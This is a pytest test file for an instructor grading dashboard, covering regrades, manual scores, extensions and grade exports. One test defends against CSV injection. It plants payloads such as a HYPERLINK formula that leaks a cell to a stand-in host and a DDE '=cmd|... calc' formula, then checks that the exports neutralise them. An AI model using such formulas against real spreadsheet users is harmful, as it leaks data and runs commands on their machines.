"""Instructor actions through the pages: regrade via the real queue (old score kept, changed
scores shown), manual cells from a report's evidence, extensions and rules, and the exports."""
from __future__ import annotations

import copy
import csv
import io
import json

from rq import Queue

from server.extensions import db
from server.models import Submission, SubmissionStatus
from tests.server.conftest import PLACEHOLDER, SAMPLE_REPORT

TEACHER = ("teacher", "teacher-pass")


def _store_result(app, sid: int, score: float) -> None:
    """What the worker does for a job: take the lease, then store one report (real code path)."""
    from server.grading.lifecycle import claim, store_report

    report = copy.deepcopy(SAMPLE_REPORT)
    report["checks"][1]["points"] = score - 4
    report["score"] = score
    with app.app_context():
        token = claim(sid)
        assert token is not None
        assert store_report(sid, token, report) == "graded"


def test_regrade_all_goes_through_the_queue_and_shows_changes(app, client, auth, make_sub, redis_server,
                                                               monkeypatch):
    import server.grading.queue

    monkeypatch.setattr(server.grading.queue, "QUEUE_DEPTH", 10)  # room in RQ for everything waiting
    a, b = make_sub("alice"), make_sub("bob")
    queued = make_sub("bob", status="queued")
    auth.login(*TEACHER)
    r = client.post(f"/dashboard/DIST101/homework/{PLACEHOLDER}/regrade", data={"confirm": "2"})  # the count shown
    assert r.status_code == 302 and "/regrades/" in r.location
    with app.app_context():
        subs = {s.id: s for s in db.session.scalars(db.select(Submission))}
        assert subs[a].status == subs[b].status == SubmissionStatus.QUEUED.value
        assert subs[queued].status == SubmissionStatus.QUEUED.value  # the waiting one was left alone
        from server.grading.queue import queue_name, redis_conn
        jobs = Queue(queue_name("cpu"), connection=redis_conn()).job_ids
        assert subs[a].job_id in jobs and subs[b].job_id in jobs
        # the fair queue: a first grading goes to RQ before the regrades
        assert jobs.index(subs[queued].job_id) < min(jobs.index(subs[a].job_id), jobs.index(subs[b].job_id))
    page = client.get(r.location).get_data(as_text=True)
    _store_result(app, a, 9.0)
    _store_result(app, b, 5.0)
    page = client.get(r.location + "?lang=en").get_data(as_text=True)
    assert "2 of 2 finished" in page and "1 score changed" in page
    with app.app_context():
        sub = db.session.get(Submission, a)
        assert (sub.score, sub.results_stored) == (9.0, 1)


def test_a_large_regrade_leaves_the_rest_to_the_reconciler(app, client, auth, make_sub, monkeypatch):
    from server.scores import actions
    from server.grading.queue import queue_name, redis_conn
    from server.grading.reconcile import reconcile

    import server.grading.queue

    monkeypatch.setattr(actions, "REGRADE_INLINE", 1)
    monkeypatch.setattr(server.grading.queue, "QUEUE_DEPTH", 1)  # RQ holds one job ahead of the workers
    ids = [make_sub("alice"), make_sub("bob"), make_sub("alice")]
    auth.login(*TEACHER)
    assert client.post(f"/dashboard/DIST101/homework/{PLACEHOLDER}/regrade", data={"confirm": "3"}).status_code == 302
    with app.app_context():
        queue = Queue(queue_name("cpu"), connection=redis_conn())
        assert len(queue.job_ids) == 1  # only the first went to Redis inside the request
        assert reconcile() == []  # RQ is full: the rest wait in the database, in fair order
        from server.grading.lifecycle import claim

        started = []
        for _ in ids:
            job_id = queue.job_ids[0]  # a worker takes the job and claims its submission
            queue.remove(job_id)
            started.append(int(job_id.split("-")[1]))
            assert claim(started[-1]) is not None
            reconcile()  # the workers' reconciler hands RQ the next one
        assert sorted(started) == ids and not queue.job_ids


def test_regrade_one_keeps_the_old_score(app, client, auth, make_sub):
    from server.scores.models import Regrade

    sid = make_sub()
    auth.login(*TEACHER)
    r = client.post(f"/dashboard/DIST101/submissions/{sid}/regrade")
    assert r.status_code == 302
    with app.app_context():
        row = db.session.scalar(db.select(Regrade))
        assert (row.submission_id, row.old_score, row.old_status) == (sid, 5.0, "graded")


MANUAL_REPORT = copy.deepcopy(SAMPLE_REPORT)
MANUAL_REPORT["checks"].append({
    "id": "notebook.manual", "title": {"zh": "人工评分", "en": "Graded by hand"}, "status": "info", "points": 0,
    "max_points": 4, "message": {"zh": "", "en": ""}, "hint": {"zh": "", "en": ""},
    "evidence": {"manual_cells": [{"cell_id": "why-zero3", "max_points": 3, "source": "ZeRO-3 shards params"},
                                  {"cell_id": "offload", "max_points": 1, "source": "offload = CPU"}]}})


def test_manual_cells_are_stored_per_cell_and_count_in_the_gradebook(app, client, auth, make_sub):
    from server.scores.gradebook import build_gradebook
    from server.scores.models import AuditEntry, ManualCellScore
    from server.models import Course

    sid = make_sub(report_json=MANUAL_REPORT, max_score=14.0)
    auth.login(*TEACHER)
    url = f"/dashboard/DIST101/submissions/{sid}/manual"
    page = client.get(url + "?lang=en").get_data(as_text=True)
    assert "why-zero3" in page and "ZeRO-3 shards params" in page
    assert client.post(url, data={"cell_id": "why-zero3", "score": "4"}).status_code == 400  # over max
    assert client.post(url, data={"cell_id": "nope", "score": "1"}).status_code == 400
    assert client.post(url, data={"cell_id": "why-zero3", "score": "2.5", "comment": "names params"}).status_code == 302
    assert client.post(url, data={"cell_id": "why-zero3", "score": "3", "comment": "regraded"}).status_code == 302
    with app.app_context():
        rows = db.session.scalars(db.select(ManualCellScore)).all()
        assert [(r.cell_id, r.score, r.comment) for r in rows] == [("why-zero3", 3.0, "regraded")]
        audit = [(e.target, e.old, e.new) for e in db.session.scalars(db.select(AuditEntry).order_by(AuditEntry.id))]
        assert audit == [(f"sub:{sid}/cell:why-zero3", None, 2.5), (f"sub:{sid}/cell:why-zero3", 2.5, 3.0)]
        book = build_gradebook(db.session.get(Course, 1))
        alice = next(r for r in book.rows if r.username == "alice")
        assert alice.cells[f"hw:{PLACEHOLDER}"].score == 8.0  # 5 automatic + 3 by hand
    assert "audit" in client.get("/dashboard/DIST101/audit?lang=en").get_data(as_text=True).lower()


def test_override_needs_a_reason_through_the_page(client, auth, make_sub):
    make_sub()
    auth.login(*TEACHER)
    url = "/dashboard/DIST101/students/alice/override"
    r = client.post(url, data={"item": f"hw:{PLACEHOLDER}", "score": "10", "reason": ""}, follow_redirects=True)
    assert "A reason is required" in r.get_data(as_text=True) or "必须填写理由" in r.get_data(as_text=True)
    client.post(url, data={"item": f"hw:{PLACEHOLDER}", "score": "10", "reason": "late upload accepted"})
    page = client.get("/dashboard/DIST101/audit?lang=en").get_data(as_text=True)
    assert "late upload accepted" in page and f"hw:{PLACEHOLDER}" in page


def test_rules_and_extensions_through_the_page(app, client, auth, hw):
    from server.scores.models import Extension
    from server.models import CourseAssignment

    auth.login(*TEACHER)
    base = f"/dashboard/DIST101/homework/{PLACEHOLDER}"
    client.post(base + "/settings", data={"deadline": "2026-12-24 18:00", "attempt_limit": "4",
                                          "late_penalty_per_day": "0.1", "score_policy": "last"})
    client.post(base + "/extensions", data={"username": "bob", "deadline": "2026-12-31 18:00", "reason": "ill"})
    assert client.post(base + "/extensions", data={"username": "nobody", "deadline": "2026-12-31"}).status_code == 404
    bad = client.post(base + "/extensions", data={"username": "bob", "deadline": "soon"}, follow_redirects=True)
    assert "YYYY-MM-DD" in bad.get_data(as_text=True)
    with app.app_context():
        ca = db.session.get(CourseAssignment, hw)
        assert (ca.attempt_limit, ca.late_penalty_per_day, ca.score_policy) == (4, 0.1, "last")
        assert ca.deadline.isoformat() == "2026-12-24T18:00:00"
        ext = db.session.scalar(db.select(Extension))
        assert ext.deadline.isoformat() == "2026-12-31T18:00:00" and ext.reason == "ill"
    client.post(base + "/extensions", data={"username": "bob", "remove": "1"})
    with app.app_context():
        assert db.session.scalar(db.select(Extension)) is None


def test_canvas_and_moodle_csv(client, auth, make_sub):
    make_sub(score=7.5)
    auth.login(*TEACHER)
    canvas = client.get("/dashboard/DIST101/export/canvas.csv?lang=en")
    assert canvas.mimetype == "text/csv" and "attachment" in canvas.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(canvas.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0][:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    col = next(i for i, h in enumerate(rows[0]) if h.endswith(f"[hw:{PLACEHOLDER}]"))
    assert rows[1][0] == "Points Possible" and rows[1][col] == "10"
    alice = next(r for r in rows if r[2] == "alice")
    assert alice[col] == "7.5" and alice[4] == "DIST101"
    assert next(r for r in rows if r[2] == "bob")[col] == ""
    moodle = list(csv.reader(io.StringIO(client.get("/dashboard/DIST101/export/moodle.csv")
                                         .get_data(as_text=True).lstrip("\ufeff"))))
    assert moodle[0][:3] == ["Email address", "Username", "Full name"] and len(moodle) == 3


def test_gradescope_and_jsonl(client, auth, make_sub):
    sid = make_sub()
    make_sub("bob", status="error")
    make_sub("bob", status="queued")
    auth.login(*TEACHER)
    gs = client.get(f"/dashboard/DIST101/submissions/{sid}/gradescope.json").get_json(force=True)
    assert gs["score"] == 5.0 and [t["name"].split(":")[0] for t in gs["tests"]] == ["launch.ranks", "speedup.ratio"]
    assert {t["status"] for t in gs["tests"]} == {"passed", "failed"}
    lines = client.get("/dashboard/DIST101/export/reports.jsonl").get_data(as_text=True).splitlines()
    records = [json.loads(line) for line in lines]
    assert [r["status"] for r in records] == ["graded", "error"]
    assert records[0]["report"]["checks"][0]["id"] == "launch.ranks" and records[0]["username"] == "alice"


def test_an_extension_reopens_uploads_for_that_student_only(app, client, auth, hw):
    from datetime import timedelta

    from server.scores.actions import set_extension
    from server.models import CourseAssignment, User, utcnow

    with app.app_context():
        ca = db.session.get(CourseAssignment, hw)
        ca.deadline, ca.late_penalty_per_day = utcnow() - timedelta(hours=1), 0.0
        db.session.commit()
        bob = db.session.scalar(db.select(User).where(User.username == "bob"))
        set_extension(ca, bob.id, utcnow() + timedelta(days=2), "ill", bob.id)
    upload = {"file": (io.BytesIO(b"print('hi')\n"), "train.py")}
    auth.login()
    assert client.post(f"/homework/DIST101/{PLACEHOLDER}", data=upload,
                       content_type="multipart/form-data").status_code == 400
    auth.logout()
    auth.login("bob", "bob-pass")
    upload = {"file": (io.BytesIO(b"print('hi')\n"), "train.py")}
    assert client.post(f"/homework/DIST101/{PLACEHOLDER}", data=upload,
                       content_type="multipart/form-data").status_code == 302


def test_student_report_shows_the_instructors_manual_cell_score(app, client, auth, make_sub):
    report = copy.deepcopy(SAMPLE_REPORT)
    report["checks"].append({
        "id": "manual.why-zero3", "title": {"zh": "人工评分", "en": "Graded by hand"}, "status": "skip",
        "points": 0, "max_points": 3, "message": {"zh": "等待老师评分", "en": "Awaiting the instructor"},
        "hint": {"zh": "", "en": ""},
        "evidence": {"manual_cells": [{"cell_id": "why-zero3", "max_points": 3, "source": "ZeRO-3 shards"}]}})
    sid = make_sub(report_json=report, max_score=13.0)
    auth.login(*TEACHER)
    assert client.post(f"/dashboard/DIST101/submissions/{sid}/manual",
                       data={"cell_id": "why-zero3", "score": "2", "comment": "names parameters"}).status_code == 302
    auth.logout()
    auth.login()  # alice, the owner
    page = client.get(f"/submissions/{sid}/report?lang=en").get_data(as_text=True)
    assert "Instructor&#39;s score: 2/3. names parameters" in page or "Instructor's score: 2/3. names parameters" in page
    assert "Awaiting the instructor" not in page


def test_csv_exports_carry_no_live_formulas(app, client, auth, make_sub):
    """A display name or email that starts with = + - @ (or a tab / CR) must reach the Canvas and
    Moodle files as text, not as a formula a spreadsheet runs (OWASP "CSV injection")."""
    from server.models import User

    make_sub(score=7.5)
    evil = {"alice": ('=HYPERLINK("http://x.test/?"&A1,"click")', "+1@x.test"),
            "bob": ("@SUM(1+1)", "-2+3@x.test"), "carol": ("\t=cmd|' /C calc'!A0", "\r=1+1")}
    with app.app_context():
        for username, (name, email) in evil.items():
            user = db.session.scalar(db.select(User).where(User.username == username))
            if user is not None:
                user.display_name, user.email = name, email
        db.session.commit()
    auth.login(*TEACHER)
    for path in ("/dashboard/DIST101/export/canvas.csv?lang=en", "/dashboard/DIST101/export/moodle.csv"):
        rows = list(csv.reader(io.StringIO(client.get(path).get_data(as_text=True).lstrip("\ufeff"))))
        cells = [c for r in rows[1:] for c in r]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
                    and not c.lstrip("+-").replace(".", "", 1).isdigit()], (path, rows)
        # the text itself is kept, behind the quote a spreadsheet shows as text
        assert "'" + evil["alice"][0] in cells and "'" + evil["bob"][0] in cells, rows
        assert "7.5" in cells  # numbers stay numbers


def _annotation_decision(app, sid: int, points: float = 2.0) -> None:
    """A teacher's decision on one unsure annotation, stored as review_annotation.decide stores it."""
    from server.scores.models import ManualCellScore
    from server.models import User

    with app.app_context():
        teacher = db.session.scalar(db.select(User.id).where(User.username == "teacher"))
        db.session.add(ManualCellScore(submission_id=sid, cell_id="field.stage", score=points, max_points=points,
                                       comment="", graded_by=teacher))
        db.session.commit()


def _counted(app, sid: int) -> float:
    from server.scores.hand_scores import submission_scores

    with app.app_context():
        return submission_scores([sid])[sid].counted


def test_a_regrade_keeps_teachers_decisions_unless_told_and_counts_the_counted_score(app, client, auth, make_sub):
    """The regrade page said "0 scores changed" while the student's counted score fell: the regrade
    cleared a teacher's annotation decision. A regrade keeps decided submissions out unless the
    teacher ticks the box that clears them, and its summary compares the counted scores."""
    from server.scores.models import ManualCellScore

    decided, plain = make_sub("alice", score=5.0), make_sub("bob", score=5.0)
    _annotation_decision(app, decided)
    assert _counted(app, decided) == 7.0
    auth.login(*TEACHER)
    for lang, said in (("en", "1 submission carries your decisions"), ("zh_CN", "1 份提交带有你对注释的决定")):
        page = client.post(f"/dashboard/DIST101/homework/{PLACEHOLDER}/regrade?lang={lang}").get_data(as_text=True)
        assert said in page and 'name="clear_decisions"' in page
    r = client.post(f"/dashboard/DIST101/homework/{PLACEHOLDER}/regrade", data={"confirm": "2"})
    with app.app_context():
        assert db.session.get(Submission, decided).status == "graded"  # left out: the decision stands
        assert db.session.get(Submission, plain).status == "queued"
    _store_result(app, plain, 5.0)
    assert _counted(app, decided) == 7.0
    # now the teacher says: regrade them too, clearing the decision
    r = client.post(f"/dashboard/DIST101/submissions/{decided}/regrade?lang=en")
    assert r.status_code == 200 and 'name="clear_decisions"' in r.get_data(as_text=True)  # asked first
    r = client.post(f"/dashboard/DIST101/submissions/{decided}/regrade", data={"confirm": "1", "clear_decisions": "1"})
    assert r.status_code == 302 and "/regrades/" in r.location
    _store_result(app, decided, 5.0)  # the grader gives the same score; the decision's 2 points are gone
    with app.app_context():
        assert db.session.scalar(db.select(ManualCellScore).where(ManualCellScore.submission_id == decided)) is None
    assert _counted(app, decided) == 5.0
    for lang, said in (("en", "1 score changed"), ("zh_CN", "1 个分数有变化")):
        page = client.get(r.location + f"?lang={lang}").get_data(as_text=True)
        assert said in page, page[page.find("regrade-live"):][:600]
    row = page.split(f"#{decided}</a>")[1].split("</tr>")[0]
    assert ">7<" in row and ">5<" in row


def test_gradescope_states_say_what_happened(app, client, auth, make_sub):
    """A manual cell waiting for the teacher and a skipped check were exported as "failed", and so
    was a speed warning: a warning passed, the others have no status yet."""
    import copy

    from tests.server.conftest import SAMPLE_REPORT

    report = copy.deepcopy(SAMPLE_REPORT)
    base = report["checks"][0]
    report["checks"] += [dict(base, id="speedup", status="warn", points=3, max_points=6),
                         dict(base, id="manual.explain", status="skip", points=0, max_points=5),
                         dict(base, id="speed.host", status="skip", points=0, max_points=0)]
    sid = make_sub(report_json=report)
    auth.login(*TEACHER)
    gs = client.get(f"/dashboard/DIST101/submissions/{sid}/gradescope.json").get_json(force=True)
    status = {t["name"].split(":")[0]: t.get("status") for t in gs["tests"]}
    assert status == {"launch.ranks": "passed", "speedup.ratio": "failed", "speedup": "passed",
                      "manual.explain": None, "speed.host": None}
